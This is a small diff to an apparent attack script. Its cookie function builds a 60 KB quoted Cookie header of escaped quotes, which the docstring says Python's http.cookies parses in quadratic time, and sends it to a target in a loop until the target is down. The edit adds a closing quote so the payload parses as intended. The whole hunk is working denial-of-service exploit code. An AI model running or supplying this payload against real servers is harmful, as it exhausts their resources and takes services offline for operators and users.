@@ -100,7 +100,7 @@ class Target:
 
 def cookie(target: Target) -> None:
     """One quoted cookie of 60 KB, which http.cookies reads in quadratic time."""
-    hostile = 'Cookie: a="' + '\\"' * 30_000
+    hostile = 'Cookie: a="' + '\\"' * 30_000 + '"'
     while not target.over:
         target.ask(target.head("GET /", f"{hostile}\r\n\r\n"))
 
